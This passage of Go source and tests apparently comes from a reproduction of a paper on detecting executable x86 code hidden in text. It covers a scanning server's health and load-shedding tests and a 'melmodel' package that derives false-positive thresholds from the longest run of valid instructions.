	// ErrContentDisabled has no code of its own: it shares
	// CodeBadRequest and survives the wire through its message text.
	// The round trip must rehydrate an error that is both the shared
	// sentinel and the specific one, and re-encode to the same code.
	rehydrated := ErrorForCode(codeFor(ErrContentDisabled), ErrContentDisabled.Error())
	if !errors.Is(rehydrated, ErrContentDisabled) {
		t.Errorf("rehydrated error %v lost ErrContentDisabled", rehydrated)
	}
	if !errors.Is(rehydrated, ErrBadRequest) {
		t.Errorf("rehydrated error %v lost ErrBadRequest", rehydrated)
	}
	if got := codeFor(rehydrated); got != CodeBadRequest {
		t.Errorf("codeFor(rehydrated) = %d, want CodeBadRequest", got)
	}

	// The content frame types must keep their assigned points so a
	// pre-content peer classifies them as unknown, not as some other
	// frame it thinks it understands.
	msgTypes := map[byte]string{
		MsgScan:                 "MsgScan",
		MsgVerdict:              "MsgVerdict",
		MsgError:                "MsgError",
		MsgScanTraced:           "MsgScanTraced",
		MsgVerdictTraced:        "MsgVerdictTraced",
		MsgScanContent:          "MsgScanContent",
		MsgScanContentTraced:    "MsgScanContentTraced",
		MsgVerdictContent:       "MsgVerdictContent",
		MsgVerdictContentTraced: "MsgVerdictContentTraced",
	}
	if len(msgTypes) != 9 {
		t.Fatalf("message types collide: %d distinct of 9", len(msgTypes))
	}
	for typ, want := range map[byte]string{
		0x06: "MsgScanContent", 0x07: "MsgScanContentTraced",
		0x08: "MsgVerdictContent", 0x09: "MsgVerdictContentTraced",
	} {
		if got := msgTypes[typ]; got != want {
			t.Errorf("frame type 0x%02x = %s, want %s", typ, got, want)
		}
	}
}

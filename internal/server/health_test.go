package server_test

import (
	"encoding/json"
	"net/http/httptest"
	"testing"
	"time"

	"repro/internal/core"
	"repro/internal/server"
	"repro/internal/telemetry/events"
)

func getHealth(t *testing.T, srv *server.Server) (int, server.HealthStatus) {
	t.Helper()
	rr := httptest.NewRecorder()
	srv.HealthHandler().ServeHTTP(rr, httptest.NewRequest("GET", "/debug/health", nil))
	var st server.HealthStatus
	if err := json.Unmarshal(rr.Body.Bytes(), &st); err != nil {
		t.Fatalf("bad health JSON: %v", err)
	}
	return rr.Code, st
}

func TestHealthServingThenDraining(t *testing.T) {
	det, err := core.New()
	if err != nil {
		t.Fatal(err)
	}
	srv, err := server.New(server.Config{Detector: det, Workers: 1, QueueDepth: 4})
	if err != nil {
		t.Fatal(err)
	}
	code, st := getHealth(t, srv)
	if code != 200 || st.Status != server.HealthServing {
		t.Fatalf("fresh server health = %d/%s, want 200/serving", code, st.Status)
	}
	if st.QueueCapacity != 4 {
		t.Fatalf("queue capacity %d, want 4", st.QueueCapacity)
	}
	srv.Close()
	code, st = getHealth(t, srv)
	if code != 503 || st.Status != server.HealthDraining {
		t.Fatalf("closed server health = %d/%s, want 503/draining", code, st.Status)
	}
}

func TestHealthOverloaded(t *testing.T) {
	det, err := core.New()
	if err != nil {
		t.Fatal(err)
	}
	srv, err := server.New(server.Config{Detector: det, Workers: 1, QueueDepth: 1, CacheSize: -1})
	if err != nil {
		t.Fatal(err)
	}
	defer srv.Close()
	// Stall the single worker, then fill the one queue slot.
	release := make(chan struct{})
	block := benignPayloads(t, 7, 1)[0]
	if err := srv.Pool().Submit(block, time.Time{}, func(core.Verdict, bool, error) {
		<-release
	}); err != nil {
		t.Fatal(err)
	}
	defer close(release)
	deadlineWait := time.After(2 * time.Second)
	for {
		if err := srv.Pool().Submit(block, time.Time{}, func(core.Verdict, bool, error) {}); err != nil {
			break // queue full: pool shed — now overloaded
		}
		select {
		case <-deadlineWait:
			t.Fatal("queue never filled")
		default:
		}
	}
	code, st := getHealth(t, srv)
	if code != 503 || st.Status != server.HealthOverloaded {
		t.Fatalf("full-queue health = %d/%s (depth %d/%d), want 503/overloaded",
			code, st.Status, st.QueueDepth, st.QueueCapacity)
	}
}

// TestPoolJournalsOutcomes: the pool's event hook journals served,
// shed, and error outcomes with the right causes.
func TestPoolJournalsOutcomes(t *testing.T) {
	det, err := core.New()
	if err != nil {
		t.Fatal(err)
	}
	j := events.New(events.Config{Capacity: 64, Shards: 1, SampleEvery: 1})
	pool, err := server.NewPool(server.PoolConfig{
		Detector: det, Workers: 1, QueueDepth: 1, CacheSize: -1, Events: j,
	})
	if err != nil {
		t.Fatal(err)
	}
	payload := benignPayloads(t, 11, 1)[0]

	// A served verdict.
	done := make(chan struct{})
	if err := pool.Submit(payload, time.Time{}, func(core.Verdict, bool, error) { close(done) }); err != nil {
		t.Fatal(err)
	}
	<-done

	// A shed: stall the worker, fill the queue, then overflow it.
	release := make(chan struct{})
	stalled := make(chan struct{})
	if err := pool.Submit(payload, time.Time{}, func(core.Verdict, bool, error) {
		close(stalled)
		<-release
	}); err != nil {
		t.Fatal(err)
	}
	<-stalled
	shedSeen := false
	deadlineWait := time.After(2 * time.Second)
	for !shedSeen {
		if err := pool.Submit(payload, time.Time{}, func(core.Verdict, bool, error) {}); err != nil {
			shedSeen = true
		}
		select {
		case <-deadlineWait:
			t.Fatal("never shed")
		default:
		}
	}
	close(release)
	pool.Close()

	var causes []string
	for _, e := range j.Snapshot(0) {
		causes = append(causes, e.Cause.String())
	}
	haveOK, haveShed := false, false
	for _, c := range causes {
		switch c {
		case "ok":
			haveOK = true
		case "shed":
			haveShed = true
		}
	}
	if !haveOK || !haveShed {
		t.Fatalf("journal causes %v, want ok and shed present", causes)
	}
}

package melmodel

import (
	"math"
	"testing"
	"testing/quick"
)

func TestCDFMonotoneAndBounded(t *testing.T) {
	n, p := 1540, 0.227
	prev := 0.0
	for x := 0; x < 200; x++ {
		c, err := CDF(x, n, p)
		if err != nil {
			t.Fatal(err)
		}
		if c < prev-1e-12 {
			t.Fatalf("CDF not monotone at x=%d: %v < %v", x, c, prev)
		}
		if c < 0 || c > 1 {
			t.Fatalf("CDF out of [0,1] at x=%d: %v", x, c)
		}
		prev = c
	}
	if prev < 0.9999999 {
		t.Errorf("CDF at x=199 is %v, should be ~1", prev)
	}
	if c, _ := CDF(-1, n, p); c != 0 {
		t.Errorf("CDF(-1) = %v", c)
	}
}

func TestCDFValidation(t *testing.T) {
	if _, err := CDF(5, 100, 0); err == nil {
		t.Error("p=0 should fail")
	}
	if _, err := CDF(5, 100, 1); err == nil {
		t.Error("p=1 should fail")
	}
	if _, err := CDF(5, 0, 0.5); err == nil {
		t.Error("n=0 should fail")
	}
}

func TestPMFSumsToOne(t *testing.T) {
	for _, cfg := range []struct {
		n int
		p float64
	}{{1000, 0.175}, {1500, 0.125}, {1500, 0.3}, {10000, 0.175}, {1540, 0.227}} {
		var sum float64
		for x := 0; x <= cfg.n; x++ {
			v, err := PMF(x, cfg.n, cfg.p)
			if err != nil {
				t.Fatal(err)
			}
			if v < -1e-12 {
				t.Fatalf("PMF negative at x=%d: %v", x, v)
			}
			sum += v
			if sum > 1-1e-12 {
				break
			}
		}
		if math.Abs(sum-1) > 1e-6 {
			t.Errorf("n=%d p=%v: PMF sums to %v", cfg.n, cfg.p, sum)
		}
	}
}

func TestPMFSeries(t *testing.T) {
	s, err := PMFSeries(80, 1540, 0.227)
	if err != nil {
		t.Fatal(err)
	}
	if len(s) != 81 {
		t.Fatalf("series length %d", len(s))
	}
	// Mode should be near the mean (~20 for the paper's parameters).
	mode, best := 0, 0.0
	for x, v := range s {
		if v > best {
			mode, best = x, v
		}
	}
	if mode < 10 || mode > 30 {
		t.Errorf("PMF mode at %d, expected near 20", mode)
	}
	if _, err := PMFSeries(-1, 10, 0.5); err == nil {
		t.Error("negative bound should fail")
	}
}

// TestPaperThreshold reproduces the paper's headline numbers: at α = 1%,
// n = 1540, p = 0.227, τ = 40.61 with the approximation and 40.62
// without (Section 3.2), rounding to the operational threshold 40.
func TestPaperThreshold(t *testing.T) {
	tau, err := Threshold(0.01, 1540, 0.227)
	if err != nil {
		t.Fatal(err)
	}
	if math.Abs(tau-40.61) > 0.05 {
		t.Errorf("approximate τ = %v, paper reports 40.61", tau)
	}
	exact, err := ThresholdExact(0.01, 1540, 0.227)
	if err != nil {
		t.Fatal(err)
	}
	if math.Abs(exact-40.62) > 0.05 {
		t.Errorf("exact τ = %v, paper reports 40.62", exact)
	}
	relDiff := math.Abs(exact-tau) / exact
	if relDiff > 0.001 {
		t.Errorf("approximation error %v, paper reports ~0.02%%", relDiff)
	}
}

func TestThresholdValidation(t *testing.T) {
	if _, err := Threshold(0, 100, 0.2); err == nil {
		t.Error("alpha=0 should fail")
	}
	if _, err := Threshold(1, 100, 0.2); err == nil {
		t.Error("alpha=1 should fail")
	}
	if _, err := Threshold(0.01, -5, 0.2); err == nil {
		t.Error("negative n should fail")
	}
	if _, err := Threshold(0.01, 100, 1.5); err == nil {
		t.Error("p>1 should fail")
	}
	if _, err := ThresholdExact(0, 100, 0.2); err == nil {
		t.Error("exact alpha=0 should fail")
	}
}

func TestFalsePositiveRoundTrip(t *testing.T) {
	// fp(Threshold(alpha)) ≈ alpha.
	for _, alpha := range []float64{0.001, 0.01, 0.05, 0.2} {
		tau, err := Threshold(alpha, 1540, 0.227)
		if err != nil {
			t.Fatal(err)
		}
		fp, err := FalsePositiveProb(tau, 1540, 0.227)
		if err != nil {
			t.Fatal(err)
		}
		if math.Abs(fp-alpha)/alpha > 0.02 {
			t.Errorf("alpha=%v: fp(τ)=%v", alpha, fp)
		}
	}
	if fp, _ := FalsePositiveProb(-1, 100, 0.2); fp != 1 {
		t.Errorf("fp at negative τ = %v, want 1", fp)
	}
}

func TestThresholdIncreasesWithN(t *testing.T) {
	// Figure 1 annotation: for the same α, the threshold grows with n.
	prev := 0.0
	for _, n := range []int{1000, 5000, 10000} {
		tau, err := Threshold(0.01, n, 0.175)
		if err != nil {
			t.Fatal(err)
		}
		if tau <= prev {
			t.Errorf("τ(n=%d) = %v not increasing", n, tau)
		}
		prev = tau
	}
}

func TestThresholdDecreasesWithP(t *testing.T) {
	// Figure 1 (right): decreasing p needs a higher threshold for the
	// same α.
	taus := make([]float64, 0, 3)
	for _, p := range []float64{0.125, 0.175, 0.300} {
		tau, err := Threshold(0.01, 1500, p)
		if err != nil {
			t.Fatal(err)
		}
		taus = append(taus, tau)
	}
	if !(taus[0] > taus[1] && taus[1] > taus[2]) {
		t.Errorf("τ should decrease with p: %v", taus)
	}
}

func TestMean(t *testing.T) {
	// Paper Fig 3 reports an empirical benign average near 20 at
	// n=1540, p=0.227; the model's expectation sits a little above it.
	m, err := Mean(1540, 0.227)
	if err != nil {
		t.Fatal(err)
	}
	if m < 18 || m > 30 {
		t.Errorf("mean MEL = %v, expected in the low-to-mid 20s", m)
	}
	if _, err := Mean(0, 0.2); err == nil {
		t.Error("n=0 should fail")
	}
	if _, err := Mean(10, 0); err == nil {
		t.Error("p=0 should fail")
	}
}

func TestIsoErrorCurve(t *testing.T) {
	curve, err := IsoErrorCurve(0.01, 1540, 0.02, 0.6, 0.02)
	if err != nil {
		t.Fatal(err)
	}
	if len(curve) < 25 {
		t.Fatalf("curve has %d points", len(curve))
	}
	// τ decreases monotonically along increasing p.
	for i := 1; i < len(curve); i++ {
		if curve[i].Tau >= curve[i-1].Tau {
			t.Errorf("iso-error τ not decreasing at p=%v", curve[i].P)
		}
	}
	if _, err := IsoErrorCurve(0.01, 1540, 0.5, 0.2, 0.1); err == nil {
		t.Error("inverted range should fail")
	}
	if _, err := IsoErrorCurve(0.01, 1540, 0.1, 0.5, 0); err == nil {
		t.Error("zero step should fail")
	}
}

// TestFigure2Boundaries reproduces the Figure 2 annotations: at α = 1%
// and n = 1540, p = 0.227 maps to τ ≈ 40 (the benign boundary) and
// τ = 120 maps back to p ≈ 0.073 (the malware boundary).
func TestFigure2Boundaries(t *testing.T) {
	tau, err := Threshold(0.01, 1540, 0.227)
	if err != nil {
		t.Fatal(err)
	}
	if math.Round(tau) != 41 && math.Round(tau) != 40 {
		t.Errorf("benign boundary τ = %v, paper: 40", tau)
	}
	p, err := PForThreshold(120, 0.01, 1540)
	if err != nil {
		t.Fatal(err)
	}
	if math.Abs(p-0.073) > 0.01 {
		t.Errorf("malware boundary p = %v, paper: 0.073", p)
	}
}

func TestPForThresholdValidation(t *testing.T) {
	if _, err := PForThreshold(0, 0.01, 100); err == nil {
		t.Error("tau=0 should fail")
	}
	if _, err := PForThreshold(40, 0, 100); err == nil {
		t.Error("alpha=0 should fail")
	}
	if _, err := PForThreshold(40, 0.01, 0); err == nil {
		t.Error("n=0 should fail")
	}
}

func TestPForThresholdRoundTrip(t *testing.T) {
	f := func(raw uint16) bool {
		tau := 10 + float64(raw%200)
		p, err := PForThreshold(tau, 0.01, 1540)
		if err != nil {
			return false
		}
		back, err := Threshold(0.01, 1540, p)
		if err != nil {
			return false
		}
		return math.Abs(back-tau) < 0.01
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 100}); err != nil {
		t.Fatal(err)
	}
}

func TestAsymptoticMeanNearExactMean(t *testing.T) {
	cases := []struct {
		n int
		p float64
	}{
		{1000, 0.175}, {1540, 0.227}, {5000, 0.175}, {1500, 0.3},
	}
	for _, c := range cases {
		asym, err := AsymptoticMean(c.n, c.p)
		if err != nil {
			t.Fatal(err)
		}
		mean, err := Mean(c.n, c.p)
		if err != nil {
			t.Fatal(err)
		}
		if math.Abs(asym-mean) > 1.5 {
			t.Errorf("n=%d p=%v: asymptotic %v vs PMF mean %v", c.n, c.p, asym, mean)
		}
	}
	if _, err := AsymptoticMean(0, 0.5); err == nil {
		t.Error("n=0 should fail")
	}
	if _, err := AsymptoticMean(10, 0); err == nil {
		t.Error("p=0 should fail")
	}
}

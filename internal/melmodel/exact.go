package melmodel

import (
	"errors"
	"math"
)

// ExactCDF computes the exact distribution of the paper's MEL statistic
// by dynamic programming, with no independence approximation: the
// probability that, in n Bernoulli trials with head (invalid)
// probability p, every head-terminated run of tails counts (tails+1) ≤ x
// and the trailing unterminated run counts tails ≤ x.
//
// This is the ground truth the paper's closed form
// (1-(1-p)^x)(1-p(1-p)^x)^n approximates by treating the run lengths as
// independent; PaperApproximationError quantifies the gap.
func ExactCDF(x, n int, p float64) (float64, error) {
	if p <= 0 || p >= 1 {
		return 0, ErrBadP
	}
	if n <= 0 {
		return 0, ErrBadN
	}
	if x < 0 {
		return 0, nil
	}
	if x >= n {
		return 1, nil
	}
	// dp[r] = probability of being at a current tail-run of length r with
	// no violation so far. A head closes the run, contributing run length
	// (r+1) under the paper's convention, so r may only reach x-1 before
	// a head arrives; a tail extends the run, and the trailing run may
	// reach x. Violations (run would exceed the budget) drop out of the
	// distribution.
	dp := make([]float64, x+1)
	next := make([]float64, x+1)
	dp[0] = 1
	for i := 0; i < n; i++ {
		for r := range next {
			next[r] = 0
		}
		var headMass float64
		for r, q := range dp {
			if q == 0 {
				continue
			}
			// A head terminates the current run with count r+1; it stays
			// legal only if r+1 <= x.
			if r+1 <= x {
				headMass += q * p
			}
			// A tail extends the run; legal while r+1 <= x.
			if r+1 <= x {
				next[r+1] += q * (1 - p)
			}
		}
		next[0] += headMass
		dp, next = next, dp
	}
	var total float64
	for _, q := range dp {
		total += q
	}
	if total > 1 {
		total = 1
	}
	return total, nil
}

// ExactPMF is the exact point mass at x.
func ExactPMF(x, n int, p float64) (float64, error) {
	cx, err := ExactCDF(x, n, p)
	if err != nil {
		return 0, err
	}
	cprev, err := ExactCDF(x-1, n, p)
	if err != nil {
		return 0, err
	}
	return cx - cprev, nil
}

// ApproximationGap measures the total variation distance between the
// paper's closed-form PMF and the exact distribution for the given
// parameters, scanning x up to the point where both tails vanish.
func ApproximationGap(n int, p float64) (float64, error) {
	if p <= 0 || p >= 1 {
		return 0, ErrBadP
	}
	if n <= 0 {
		return 0, ErrBadN
	}
	var tv, cumExact, cumPaper float64
	for x := 0; x <= n; x++ {
		pe, err := ExactPMF(x, n, p)
		if err != nil {
			return 0, err
		}
		pp, err := PMF(x, n, p)
		if err != nil {
			return 0, err
		}
		tv += math.Abs(pe - pp)
		cumExact += pe
		cumPaper += pp
		if cumExact > 1-1e-10 && cumPaper > 1-1e-10 {
			break
		}
	}
	return tv / 2, nil
}

// ExactThreshold inverts the exact CDF: the smallest integer τ with
// P[Xmax > τ] <= alpha.
func ExactThreshold(alpha float64, n int, p float64) (int, error) {
	if alpha <= 0 || alpha >= 1 {
		return 0, ErrBadAlpha
	}
	for x := 0; x <= n; x++ {
		c, err := ExactCDF(x, n, p)
		if err != nil {
			return 0, err
		}
		if 1-c <= alpha {
			return x, nil
		}
	}
	return n, errors.New("melmodel: exact threshold not found")
}

package melmodel

import (
	"math"
	"testing"

	"repro/internal/corpus"
	"repro/internal/x86"
)

func TestEstimateValidation(t *testing.T) {
	var freq [256]float64
	freq['a'] = 1
	if _, err := Estimate(freq, 0); err == nil {
		t.Error("c=0 should fail")
	}
	var unnorm [256]float64
	unnorm['a'] = 0.4
	if _, err := Estimate(unnorm, 100); err == nil {
		t.Error("non-normalized table should fail")
	}
	var neg [256]float64
	neg['a'], neg['b'] = 1.5, -0.5
	if _, err := Estimate(neg, 100); err == nil {
		t.Error("negative frequency should fail")
	}
}

func TestEstimateDegenerateTables(t *testing.T) {
	// All mass on prefix chars: no opcodes at all.
	var freq [256]float64
	freq[0x66] = 1
	if _, err := Estimate(freq, 100); err == nil {
		t.Error("all-prefix table should fail")
	}
	// A table with no invalidating characters yields p = 0, which is
	// unusable for thresholding.
	var benignless [256]float64
	benignless['A'] = 1 // inc ecx only
	if _, err := Estimate(benignless, 100); err == nil {
		t.Error("p=0 table should fail")
	}
}

// TestEstimatePaperBands runs the Section 5.2 pipeline on the synthetic
// benign corpus and checks every reported quantity lands in a band
// around the paper's values: z ≈ 0.16, E[prefix] ≈ 0.19,
// E[actual] ≈ 2.4, E[len] ≈ 2.6, n ≈ 1540 (C = 4000), p ≈ 0.227.
func TestEstimatePaperBands(t *testing.T) {
	cases, err := corpus.Dataset(42, 100, 4000)
	if err != nil {
		t.Fatal(err)
	}
	freq, err := corpus.Frequencies(corpus.Concat(cases))
	if err != nil {
		t.Fatal(err)
	}
	params, err := Estimate(freq, 4000)
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("params: %+v", params)

	if params.Z < 0.10 || params.Z > 0.22 {
		t.Errorf("z = %v, paper: 0.16", params.Z)
	}
	if params.EPrefixLen < 0.11 || params.EPrefixLen > 0.29 {
		t.Errorf("E[prefix] = %v, paper: 0.19", params.EPrefixLen)
	}
	if params.EActualLen < 2.0 || params.EActualLen > 3.0 {
		t.Errorf("E[actual] = %v, paper: 2.4", params.EActualLen)
	}
	if params.EInstrLen < 2.2 || params.EInstrLen > 3.2 {
		t.Errorf("E[len] = %v, paper: 2.6", params.EInstrLen)
	}
	if params.N < 1250 || params.N > 1850 {
		t.Errorf("n = %v, paper: 1540", params.N)
	}
	if params.PIO < 0.12 || params.PIO > 0.24 {
		t.Errorf("p_io = %v, paper: 0.185", params.PIO)
	}
	if params.PWrongSeg < 0.015 || params.PWrongSeg > 0.08 {
		t.Errorf("p_seg = %v, paper: 0.042", params.PWrongSeg)
	}
	if params.P < 0.15 || params.P > 0.30 {
		t.Errorf("p = %v, paper: 0.227", params.P)
	}

	// The threshold that falls out must be in the paper's operating
	// region (tens of instructions, nowhere near the 120+ malware band).
	tau, err := Threshold(0.01, params.N, params.P)
	if err != nil {
		t.Fatal(err)
	}
	if tau < 25 || tau > 70 {
		t.Errorf("derived τ = %v, paper: 40", tau)
	}
}

func TestEstimateEnglishPreset(t *testing.T) {
	params, err := Estimate(corpus.EnglishFreq(), 4000)
	if err != nil {
		t.Fatal(err)
	}
	if params.P < 0.12 || params.P > 0.35 {
		t.Errorf("English preset p = %v", params.P)
	}
	if params.EInstrLen < 2.0 || params.EInstrLen > 3.5 {
		t.Errorf("English preset E[len] = %v", params.EInstrLen)
	}
}

// TestEstimateMatchesMeasured compares the no-disassembly estimate of
// E[instruction length] with the measured average from actually
// disassembling the corpus — the Section 5.3 check (2.6 predicted vs
// 2.65 measured).
func TestEstimateMatchesMeasured(t *testing.T) {
	cases, err := corpus.Dataset(13, 30, 4000)
	if err != nil {
		t.Fatal(err)
	}
	all := corpus.Concat(cases)
	freq, err := corpus.Frequencies(all)
	if err != nil {
		t.Fatal(err)
	}
	params, err := Estimate(freq, 4000)
	if err != nil {
		t.Fatal(err)
	}

	// Measured: linear disassembly of the whole corpus.
	measured := measureMeanLen(all)
	rel := math.Abs(measured-params.EInstrLen) / measured
	if rel > 0.10 {
		t.Errorf("predicted E[len]=%v vs measured %v (rel err %v); paper saw 2.6 vs 2.65",
			params.EInstrLen, measured, rel)
	}
}

// measureMeanLen is a tiny local disassembly-based average to avoid a
// dependency cycle with the mel package.
func measureMeanLen(data []byte) float64 {
	var count, total int
	for pos := 0; pos < len(data); {
		inst, err := decodeAt(data, pos)
		if err != nil {
			break
		}
		total += inst
		count++
		pos += inst
	}
	if count == 0 {
		return 0
	}
	return float64(total) / float64(count)
}

func decodeAt(data []byte, pos int) (int, error) {
	inst, err := x86.Decode(data, pos)
	if err != nil {
		return 0, err
	}
	return inst.Len, nil
}

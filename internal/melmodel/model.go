// Package melmodel implements the probabilistic MEL model of Section 3:
// the distribution of the longest error-free run of instructions in a
// stream of n Bernoulli trials with per-instruction invalidity
// probability p, the automatic threshold derivation τ(α, n, p), and the
// Section 5.2 estimation of n and p from nothing but the input length
// and a character-frequency table.
package melmodel

import (
	"errors"
	"fmt"
	"math"
)

// Params validation errors.
var (
	ErrBadP     = errors.New("melmodel: p must be in (0, 1)")
	ErrBadN     = errors.New("melmodel: n must be positive")
	ErrBadAlpha = errors.New("melmodel: alpha must be in (0, 1)")
)

// CDF returns Prob[Xmax <= x] for the MEL of n instructions with
// invalidity probability p:
//
//	Prob[Xmax <= x] = (1 - (1-p)^x) * (1 - p(1-p)^x)^n
//
// (the paper's closed form, Section 3.1). x < 0 yields 0.
func CDF(x, n int, p float64) (float64, error) {
	if p <= 0 || p >= 1 {
		return 0, ErrBadP
	}
	if n <= 0 {
		return 0, ErrBadN
	}
	if x < 0 {
		return 0, nil
	}
	q := math.Pow(1-p, float64(x))
	return (1 - q) * math.Pow(1-p*q, float64(n)), nil
}

// PMF returns Prob[Xmax = x] = CDF(x) - CDF(x-1).
func PMF(x, n int, p float64) (float64, error) {
	cx, err := CDF(x, n, p)
	if err != nil {
		return 0, err
	}
	cprev, err := CDF(x-1, n, p)
	if err != nil {
		return 0, err
	}
	return cx - cprev, nil
}

// PMFSeries returns PMF(0..maxX) as a slice.
func PMFSeries(maxX, n int, p float64) ([]float64, error) {
	if maxX < 0 {
		return nil, errors.New("melmodel: negative series bound")
	}
	out := make([]float64, maxX+1)
	for x := 0; x <= maxX; x++ {
		v, err := PMF(x, n, p)
		if err != nil {
			return nil, err
		}
		out[x] = v
	}
	return out, nil
}

// Mean returns E[Xmax] computed from the PMF (summed until the tail mass
// is negligible).
func Mean(n int, p float64) (float64, error) {
	if p <= 0 || p >= 1 {
		return 0, ErrBadP
	}
	if n <= 0 {
		return 0, ErrBadN
	}
	var mean, cum float64
	for x := 0; x <= n; x++ {
		v, err := PMF(x, n, p)
		if err != nil {
			return 0, err
		}
		mean += float64(x) * v
		cum += v
		if cum > 1-1e-12 {
			break
		}
	}
	return mean, nil
}

// FalsePositiveProb returns α = Prob[Xmax > τ] exactly:
// 1 - (1-(1-p)^τ)(1-p(1-p)^τ)^n. τ may be fractional (the threshold
// formula returns real values).
func FalsePositiveProb(tau float64, n int, p float64) (float64, error) {
	if p <= 0 || p >= 1 {
		return 0, ErrBadP
	}
	if n <= 0 {
		return 0, ErrBadN
	}
	if tau < 0 {
		return 1, nil
	}
	q := math.Pow(1-p, tau)
	return 1 - (1-q)*math.Pow(1-p*q, float64(n)), nil
}

// Threshold returns the MEL threshold τ for a target false-positive
// probability α using the paper's approximation
// α ≈ 1 - [1 - p(1-p)^τ]^n, i.e.
//
//	τ = (log(1 - (1-α)^(1/n)) - log p) / log(1-p)
//
// (Section 3.2). The approximation drops the (1-(1-p)^τ) factor, which
// the paper shows changes τ by ~0.02% at its operating point.
func Threshold(alpha float64, n int, p float64) (float64, error) {
	if alpha <= 0 || alpha >= 1 {
		return 0, ErrBadAlpha
	}
	if p <= 0 || p >= 1 {
		return 0, ErrBadP
	}
	if n <= 0 {
		return 0, ErrBadN
	}
	num := math.Log(1-math.Pow(1-alpha, 1/float64(n))) - math.Log(p)
	return num / math.Log(1-p), nil
}

// ThresholdExact inverts the full CDF numerically: the smallest real τ
// with Prob[Xmax > τ] <= alpha, found by bisection. Used to verify the
// approximation (Section 3.2 reports 40.61 vs 40.62 at the paper's
// parameters).
func ThresholdExact(alpha float64, n int, p float64) (float64, error) {
	if alpha <= 0 || alpha >= 1 {
		return 0, ErrBadAlpha
	}
	if p <= 0 || p >= 1 {
		return 0, ErrBadP
	}
	if n <= 0 {
		return 0, ErrBadN
	}
	lo, hi := 0.0, float64(n)
	// FalsePositiveProb decreases in τ; find τ with fp(τ) = alpha.
	for i := 0; i < 200; i++ {
		mid := (lo + hi) / 2
		fp, err := FalsePositiveProb(mid, n, p)
		if err != nil {
			return 0, err
		}
		if fp > alpha {
			lo = mid
		} else {
			hi = mid
		}
		if hi-lo < 1e-10 {
			break
		}
	}
	return (lo + hi) / 2, nil
}

// AsymptoticMean returns the classical streak-theory approximation of
// E[Xmax] (Gordon, Schilling & Waterman): for long runs of successes
// with success probability q = 1-p over n trials,
//
//	E[Xmax] ≈ log_{1/q}(n p) + γ / ln(1/q) − 1/2
//
// with γ the Euler–Mascheroni constant. Useful as a closed-form sanity
// check on the full PMF computation.
func AsymptoticMean(n int, p float64) (float64, error) {
	if p <= 0 || p >= 1 {
		return 0, ErrBadP
	}
	if n <= 0 {
		return 0, ErrBadN
	}
	const gamma = 0.5772156649015329
	lnInvQ := -math.Log1p(-p) // ln(1/(1-p))
	return math.Log(float64(n)*p)/lnInvQ + gamma/lnInvQ - 0.5, nil
}

// IsoErrorPoint is one (p, τ) pair on a constant-α curve (Figure 2).
type IsoErrorPoint struct {
	P   float64
	Tau float64
}

// IsoErrorCurve returns the (p, τ) combinations that keep the false-
// positive probability at α for fixed n, sweeping p over [pMin, pMax]
// with the given step (Figure 2).
func IsoErrorCurve(alpha float64, n int, pMin, pMax, step float64) ([]IsoErrorPoint, error) {
	if pMin <= 0 || pMax >= 1 || pMin > pMax || step <= 0 {
		return nil, fmt.Errorf("melmodel: bad sweep [%v, %v] step %v", pMin, pMax, step)
	}
	var out []IsoErrorPoint
	for p := pMin; p <= pMax+1e-12; p += step {
		tau, err := Threshold(alpha, n, p)
		if err != nil {
			return nil, err
		}
		out = append(out, IsoErrorPoint{P: p, Tau: tau})
	}
	return out, nil
}

// PForThreshold returns the p that makes τ the α-threshold at size n —
// the inverse reading of Figure 2 (e.g. the paper's p ≈ 0.073 for
// τ = 120). Found by bisection; Threshold is decreasing in p.
func PForThreshold(tau, alpha float64, n int) (float64, error) {
	if tau <= 0 {
		return 0, errors.New("melmodel: tau must be positive")
	}
	if alpha <= 0 || alpha >= 1 {
		return 0, ErrBadAlpha
	}
	if n <= 0 {
		return 0, ErrBadN
	}
	lo, hi := 1e-6, 1-1e-6
	for i := 0; i < 200; i++ {
		mid := (lo + hi) / 2
		t, err := Threshold(alpha, n, mid)
		if err != nil {
			return 0, err
		}
		if t > tau {
			lo = mid
		} else {
			hi = mid
		}
	}
	return (lo + hi) / 2, nil
}

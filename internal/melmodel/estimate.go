package melmodel

import (
	"errors"
	"math"

	"repro/internal/textins"
	"repro/internal/x86"
)

// Params are the Section 5.2 model parameters derived from an input's
// character-frequency table alone — no disassembly of the data itself.
type Params struct {
	// C is the input size in characters.
	C int
	// Z is the probability that a character is an instruction prefix
	// (the paper measures z = 0.16).
	Z float64
	// EPrefixLen is the expected prefix-chain length z/(1-z) (≈ 0.19).
	EPrefixLen float64
	// EActualLen is the expected length of the actual instruction after
	// the prefix chain (≈ 2.4).
	EActualLen float64
	// EInstrLen is the total expected instruction length (≈ 2.6).
	EInstrLen float64
	// N is the estimated number of instructions C / EInstrLen (≈ 1540
	// for C = 4000).
	N int
	// PIO is the probability mass of the privileged I/O characters
	// (≈ 0.185).
	PIO float64
	// PWrongSeg is the probability that an instruction both carries a
	// wrong segment override and accesses memory (≈ 0.042).
	PWrongSeg float64
	// PMemAccess is the conditional probability that an instruction
	// accesses memory, used in the PWrongSeg computation.
	PMemAccess float64
	// P = PIO + PWrongSeg, the per-instruction invalidity probability
	// (≈ 0.227).
	P float64
}

// Estimate derives the model parameters from a character-frequency table
// and the input size in characters, exactly as Section 5.2 prescribes:
// z and the I/O mass come straight from the table; the expected actual-
// instruction length is the expectation of the real decode tables over
// the distribution; the wrong-segment term multiplies the chance of a
// faulting override in the prefix chain by the chance that the actual
// instruction touches memory.
//
// Everything except C and N depends only on the frequency table; callers
// that scan many payloads under one calibration should build a
// Calibration once and derive per-size Params from it instead of paying
// the decode-table expectation on every call.
func Estimate(freq [256]float64, c int) (Params, error) {
	if c <= 0 {
		return Params{}, errors.New("melmodel: input size must be positive")
	}
	cal, err := NewCalibration(freq)
	if err != nil {
		return Params{}, err
	}
	return cal.Params(c)
}

// Calibration is the size-independent part of Estimate: every model
// parameter that depends only on the character-frequency table,
// precomputed once. Params then derives the full parameter set for a
// given payload size in O(1).
type Calibration struct {
	base Params
}

// NewCalibration precomputes the frequency-dependent model parameters.
// It performs all of Estimate's table validation, so a table Estimate
// would reject is rejected here with the same error.
func NewCalibration(freq [256]float64) (*Calibration, error) {
	var total float64
	for _, v := range freq {
		if v < 0 {
			return nil, errors.New("melmodel: negative frequency")
		}
		total += v
	}
	if math.Abs(total-1) > 1e-6 {
		return nil, errors.New("melmodel: frequency table must sum to 1")
	}

	var p Params

	// z: prefix-character mass.
	for _, b := range textins.PrefixChars {
		p.Z += freq[b]
	}
